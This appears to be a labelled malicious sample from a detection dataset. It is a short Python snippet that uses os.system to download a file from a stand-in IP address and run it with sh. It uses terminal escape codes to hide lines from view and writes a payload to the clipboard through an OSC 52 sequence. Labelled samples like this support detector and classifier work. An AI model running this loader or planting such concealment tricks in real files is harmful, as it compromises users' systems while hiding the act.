# label: malicious family=unicode techniques=T1027,T1059.004,T1105,T1115,T1564 lines=4-5
import os
# [2K[1A[2K looks empty in a terminal
os.system("wget -q http://203.0.113.140/k -O /tmp/k && sh /tmp/k") # [8mhidden[0m
print("]52;c;ZWNobyBweXRyaWFnZQ==")
